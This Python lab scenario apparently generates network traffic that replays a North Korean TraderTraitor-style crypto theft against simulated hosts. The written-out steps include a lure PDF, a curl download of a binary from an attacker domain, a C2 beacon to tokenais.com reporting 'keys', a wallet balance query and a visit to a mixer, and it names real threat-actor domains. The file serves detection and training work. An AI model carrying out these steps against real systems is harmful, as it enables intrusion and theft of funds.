# SPDX-License-Identifier: Apache-2.0
"""In the manner of the Ronin theft: a blockchain engineer opens a job document, the "trading app" behind
it calls home, the C2 port is opened by name only, and the loot is looked at, traded and mixed. Names:
CISA AA22-108A (TraderTraitor, April 2022); the wallet: OFAC, 14 April 2022."""

START = "2022-04-18 09:22:50"
LAN = "10.22.7.0/24"
RONIN_WALLET = "0x098b716b8aaf21512996dc57eb0615e2383e2f96"
SHOWS = {
    "dns": ["alticgo.com", "esilet.com", "tokenais.com", "api.binance.com", "blender.io", "eth-rpc.example"],
    "sni": ["alticgo.com", "esilet.com", "api.binance.com", "blender.io"],
    "host": ["eth-rpc.example:8545"],
}
LURE = "/careers/senior-blockchain-engineer.pdf"
WEALTH = '{"jsonrpc":"2.0","id":1,"result":"0x2bdd"}'
BALANCE = '{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":["%s","latest"]}' % RONIN_WALLET


def play(lab):
    engineer = lab.host("engineer", 61)
    set_scene(lab)
    with lab.recording():
        lab.browse(engineer, "https://alticgo.com" + LURE)
        lab.later(minutes=12)
        lab.curl(engineer, "-A", "Esilet/1.0", "https://esilet.com/update/darwin64.bin")
        lab.later(minutes=1)
        lab.play(engineer, "say.py", "tokenais.com", 8080, '{"id":61,"os":"darwin"}', '{"id":61,"out":"keys"}')
        lab.later(days=1, hours=3)
        lab.curl(engineer, "-A", "Go-http-client/1.1", "-H", "Content-Type: application/json", "-d", BALANCE,
                 "http://eth-rpc.example:8545/")
        lab.curl(engineer, "-A", "python-requests/2.27.1", "https://api.binance.com/api/v3/account")
        lab.later(hours=2)
        lab.browse(engineer, "https://blender.io/")


def set_scene(lab):
    lab.site("alticgo.com", "203.0.113.50", {LURE: lab.bytes(7000, b"%PDF-1.7\n")})
    lab.site("esilet.com", "203.0.113.51", {"/update/darwin64.bin": lab.bytes(5000)})
    lab.site("eth-rpc.example", "192.0.2.45", {"/": WEALTH}, 8545, tls=None)
    lab.site("api.binance.com", "198.51.100.10", {"/api": '{"balances":[]}'})
    lab.site("blender.io", "203.0.113.53")
    lab.public("203.0.113.52")
    lab.names.address("tokenais.com", "203.0.113.52")
    lab.serve(lab.internet, "answer.py", 8080, '{"cmd":"collect"}', tcp=8080)
